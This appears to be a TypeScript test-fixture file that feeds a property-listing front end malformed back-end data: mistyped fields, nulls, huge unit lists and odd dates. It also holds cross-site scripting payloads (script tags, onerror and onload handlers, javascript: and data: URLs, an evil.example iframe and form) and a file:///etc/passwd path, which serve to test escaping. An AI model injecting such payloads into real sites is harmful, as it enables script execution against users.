/** What real back ends send in the place of the strict shapes of lib/contract. */

/** A text that runs, if it ever reaches a document unescaped. */
export const HOSTILE = `</script><script>window.hacked=1</script><img src=x onerror="window.hacked=2">"'><svg onload=window.hacked=3>`;
/** Right-to-left overrides, emoji, a lone combining mark and no break for 500 characters. */
const LONG = `\u202eRTL\u2066 🏝️👨‍👩‍👧 \u0301${'W'.repeat(500)}`;

const DESCRIPTION = [
  '<h2>About</h2><p onclick="window.hacked=4">Sea <b>views</b> and a <a href="javascript:window.hacked=5">pool</a>.</p>',
  '<script>window.hacked=6</script><style>body{display:none}</style><iframe src="https://evil.example/"></iframe>',
  '<img src="https://evil.example/pixel.gif" onerror="window.hacked=7"><form action="https://evil.example/"><input name=card></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">cover</p><svg><a xlink:href="javascript:window.hacked=8">x</a></svg>',
  '<table><tr><td>One</td></tr></table><p>An unclosed <em>thought',
].join('');

/** Thirty columns, as a price list that was pasted has them. */
const TABLE = `<table>${'<tr>'.concat('<td>1,250,000</td>'.repeat(30), '</tr>').repeat(3)}</table>`;

type Fields = Record<string, unknown>;

/** Each kind of oddness, with its number: the id of `<kind>-<n>` is number × 1000 + n. */
export const KINDS = { bare: 1, texts: 2, hostile: 3, pictures: 4, dates: 5, nulls: 6 } as const;
export type Kind = keyof typeof KINDS;

const NOTHING = [
  'title property_type sales_status property_status city district developer low_price average_price min_area',
  'average_area average_bedrooms residential_units commercial_units completion_rate updated_at is_favorite cover',
  'property_images formatted_address map_coordinates total_units property_units_summary delivery_date downPayment',
  'payment_plans payment_plan facilities description property_units guarantee_rental_guarantee post_delivery',
].flatMap((line) => line.split(' '));

const CARDS: Record<Kind, (here: string) => Fields> = {
  /** nothing but what names it */
  bare: () => ({}),
  /** every field there, and null */
  nulls: () => Object.fromEntries(NOTHING.map((field) => [field, null])),
  /** numbers, flags and names as texts; the cover under another name */
  texts: () => ({
    name: 'Texts Tower',
    property_type: 'Villa',
    sales_status: 'Under Construction',
    property_status: { label: 'Off-plan', value: 3 },
    city: 'Dubai',
    district: 'Palm Jumeirah',
    developer: { name: 'Odd Developments' },
    low_price: 'AED 1,250,000.00',
    average_price: '2000000',
    min_area: '850.5 sq ft',
    average_area: '1,200',
    average_bedrooms: '2.5',
    residential_units: '40',
    completion_rate: '80%',
    updated_at: 'yesterday',
    is_favorite: 'false',
    image: '/media/texts.png',
    permit_number: '71234567',
    permit_url: 'https://permits.example/71234567',
  }),
  hostile: () => ({
    title: HOSTILE,
    arabic_title: HOSTILE,
    property_type: { name: HOSTILE },
    sales_status: { name: '<b>sold</b>' },
    city: { name: HOSTILE },
    district: { name: LONG },
    developer: { name: LONG },
    low_price: 'Infinity',
    average_price: -5,
    completion_rate: 4000,
    cover: 'javascript:window.hacked=9',
    permit_number: HOSTILE,
    permit_url: 'javascript:window.hacked=10',
    permit_expires: HOSTILE,
  }),
  pictures: (here) => ({ title: `Pictures ${LONG}`, cover: { image: `${here}/media/broken.png` } }),
  dates: (here) => ({
    title: 'Dates Court',
    developer: { name: 'Emirates International Holding for Real Estate Development and Investment' },
    cover_image: `${here}/media/dates.png`,
    low_price: 0,
    updated_at: 1e15,
  }),
};

const DETAILS: Record<Kind, (here: string) => Fields> = {
  bare: () => ({}),
  nulls: () => ({}),
  texts: () => ({
    property_images: ['/media/one.png', '/media/two.png', ''],
    map_coordinates: '25.1124, 55.1390',
    total_units: '40',
    delivery_date: '202709',
    downPayment: '20%',
    post_delivery: 'true',
    guarantee_rental_guarantee: '1',
    guarantee_rental_guarantee_value: '7.5',
    payment_plans: [
      { name: 'Plan', values: [{ due_date: '202601', name: 'Booking', percentage: '20' }, { percentage: 'eighty' }] },
      { values: 'soon' },
    ],
    payment_plan: '2',
    facilities: ['Pool', { name: 'Gym' }, null, { facility: { name: 'Beach' } }],
    description: 'Plain words & no markup',
  }),
  hostile: () => ({
    display_title: HOSTILE,
    description: DESCRIPTION,
    formatted_address: HOSTILE,
    facilities: [{ name: HOSTILE }],
    map_coordinates: { latitude: 'javascript:1', longitude: 999 },
    payment_plans: [
      { name: HOSTILE, description: DESCRIPTION, values: [{ name: HOSTILE, percentage: 300, due_date: {} }] },
    ],
    property_images: [{ image: 'data:text/html,<script>window.hacked=11</script>' }, { image: '//evil.example/a.png' }],
  }),
  pictures: (here) => ({
    description: `<p>Prices of every floor.</p>${TABLE}`,
    agent: { id: 7, name: 'Sara Haddad', photo: `${here}/media/broken.png` },
    property_images: [
      null,
      {},
      { image: null },
      { image: `${here}/media/drawing.svg` },
      { image: `${here}/media/wide.png`, width: '800', height: 0 },
      { image: 'https://evil.example/a.jpg' },
      { image: 'file:///etc/passwd' },
      { image: '../../media/up.png' },
      ...Array.from({ length: 30 }, (_, at) => ({ image: `/media/many-${at}.png` })),
    ],
  }),
  dates: () => ({
    delivery_date: 202613,
    map_coordinates: { latitude: 0, longitude: 0 },
    payment_plans: [
      { name: 'One', values: [{ due_date: 1_790_000_000, name: 'seconds', percentage: 50 }] },
      { name: 'Two', values: [{ due_date: 1_790_000_000_000, name: 'milliseconds', percentage: 25.5 }] },
      { name: 'Three', values: [{ due_date: 'the day after', name: 'words', percentage: 24.5 }] },
      { name: 'Four', values: [] },
    ],
  }),
};

/** The slug of a property whose plan has long names, and several instalments in one month. */
export const LONG_NAMES = 'texts-302';

/** The month so many months from now, as `202612`. */
function monthsAhead(months: number): string {
  const date = new Date();
  date.setUTCMonth(date.getUTCMonth() + months, 1);
  return date.toISOString().slice(0, 7).replace('-', '');
}

/** Its plan: four months lie between two instalments, too short at a usual pace for the words beside them. */
const longNames = (): Fields => ({
  delivery_date: monthsAhead(9),
  payment_plans: [
    {
      name: 'Long names',
      values: [
        { due_date: monthsAhead(1), name: 'On signing the agreement at the office of the developer', percentage: 20 },
        { due_date: monthsAhead(5), name: 'On completion of the structure of the whole tower', percentage: 20 },
        { due_date: monthsAhead(5), name: 'On completion of its facade and of its lobbies', percentage: 10 },
        { due_date: monthsAhead(5), name: 'Fee of the Land Department', percentage: 4 },
        { due_date: monthsAhead(9), name: 'On handover', percentage: 46 },
      ],
    },
  ],
});

/**
 * The property of a slug such as `hostile-12`, as a card or whole; null for a slug of no kind. Never without id and
 * slug: a record that lacks them is in the list by itself.
 */
export function oddProperty(slug: string, here: string, size: 'card' | 'whole'): Fields | null {
  const [, kind, number] = /^([a-z]+)-(\d{1,3})$/.exec(slug) ?? [];
  if (!kind || !(kind in KINDS)) return null;
  const name = kind as Kind;
  const id = KINDS[name] * 1000 + Number(number);
  const sales = slug === SOLD ? { sales_status: 'Sold Out' } : {};
  const card = { id: name === 'texts' ? String(id) : id, slug, ...CARDS[name](here), ...sales };
  if (size === 'card') return card;
  const more =
    slug === LONG_NAMES ? longNames() : slug === CAME_WITH.slug ? { property_units: crowd(CAME_WITH.units) } : {};
  return { ...card, ...DETAILS[name](here), ...more };
}

/** Properties by slug whose buildings have this many units; all else of them is as of `texts-1`. */
export const CROWDS = { 'texts-148': 48, 'texts-200': 2000 } as const;

/** The slug of a property that is sold, as `texts-1` else: its units, all but one, are left as they were before. */
export const SOLD = 'texts-300';
/** The id of one of them, which has pictures to be found by. */
export const SOLD_UNIT = 5;

/** The slug of a property whose units came with it, this many, and have no list of their own; as `texts-1` else. */
export const CAME_WITH = { slug: 'texts-301', units: 7 } as const;

const CAME_WITH_ID = KINDS.texts * 1000 + 301;

const FLOOR_UNITS = 40;

/** A unit of a tall building: rooms, prices and statuses of every sort, some missing, forty pictures among all. */
function crowdUnit(at: number): Fields {
  const floor = Math.floor(at / FLOOR_UNITS) + 1;
  const type = at % 8;
  return {
    id: 100_000 + at,
    apartment_id: `TX-${floor}-${String(at % FLOOR_UNITS).padStart(2, '0')}`,
    apt_no: String(floor * 100 + (at % FLOOR_UNITS)),
    apartment_type_id: type,
    no_of_baths: type + 1,
    area: 420 + type * 310 + floor,
    price: at % 50 === 49 ? null : 480_000 + type * 900_000 + floor * 5000,
    floor_no: floor,
    status: ['available', 'sold', 'reserved', 'under_construction', 'coming_soon'][at % 5],
    unit_image: `/media/projects/texts-tower/units/interior-of-type-${type}-in-variation-${at % 40}.png`,
  };
}

const crowd = (units: number) => Array.from({ length: units }, (_, at) => crowdUnit(at));

/** Geometry with hostile words, numbers as texts, and parts that are none. */
const ODD_PLAN = {
  north: 'up',
  floors: [
    {
      level: 'ground',
      rooms: [
        {
          kind: HOSTILE,
          name: HOSTILE,
          area: '1,200 sq ft',
          outline: [
            ['0', 0],
            [8, 0],
            [8, '6'],
            [0, 6],
          ],
        },
        {
          kind: 'bedroom',
          number: 'two',
          area: 120,
          outline: [
            [8, 0],
            [12, 0],
            [12, 6],
            [10, 6],
            [10, 3],
            [8, 3],
          ],
        },
        { kind: 'kitchen', area: -4, outline: 'none' },
        null,
      ],
      walls: [
        { from: [0, 0], to: [12, 0], thickness: '0.3 m' },
        { from: [0, 0], to: [12, 0], thickness: 0.3 },
        { from: [0, 6], to: [1e9, 6], thickness: 0.3 },
        'wall',
      ],
      openings: [{ kind: HOSTILE, from: [0, 0], to: [1, 0], thickness: 0.3 }],
      furniture: { boxes: 'none', lines: [[1, 1, 2, 2], [1]] },
    },
    null,
  ],
};

/** Units of the property with this id: bare ones, texts, hostile ones, and what is no unit at all. */
export function oddUnits(id: number, here: string): unknown[] {
  if (id < 2000 || id === CAME_WITH_ID) return [];
  const crowded = Object.entries(CROWDS).find(([slug]) => oddProperty(slug, here, 'card')?.id === String(id));
  if (crowded) return crowd(crowded[1]);
  return [
    { id: 1 },
    {
      id: '2',
      apartment_id: 'A-2',
      apartment_type_id: '3',
      no_of_baths: '3.0',
      area: '1,450',
      price: '2,500,000',
      floor_no: 12,
      status: 'sold',
      is_demand: 'true',
      unit_image: '/media/unit.png',
      floor_plan_image: `${here}/media/broken.png`,
    },
    {
      id: 3,
      apartment_id: HOSTILE,
      apt_no: LONG,
      floor_no: HOSTILE,
      status: HOSTILE,
      price: 'N/A',
      apartment_type_id: 'Studio',
      floor_plan: ODD_PLAN,
    },
    { id: 4, price: 0, area: 0, apartment_type_id: 0, unit_image: 'https://evil.example/u.png' },
    // a plan as most back ends have it: a picture
    { id: 5, apartment_id: 'A-5', unit_image: '/media/unit.png', floor_plan_image: `${here}/media/plan.png` },
    null,
    'unit',
    { apartment_id: 'no id' },
  ];
}

/** Options as `{value, label}`, with some that are none. */
export function oddFilters(): Fields {
  return {
    property_types: [{ value: '1', label: 'Villa' }, { value: 2, label: HOSTILE }, {}, null],
    property_statuses: null,
    sales_statuses: 'all',
    cities: [{ id: 1, name: 'Dubai' }],
    districts: { results: [{ id: '7', name: LONG, city: 1 }] },
  };
}
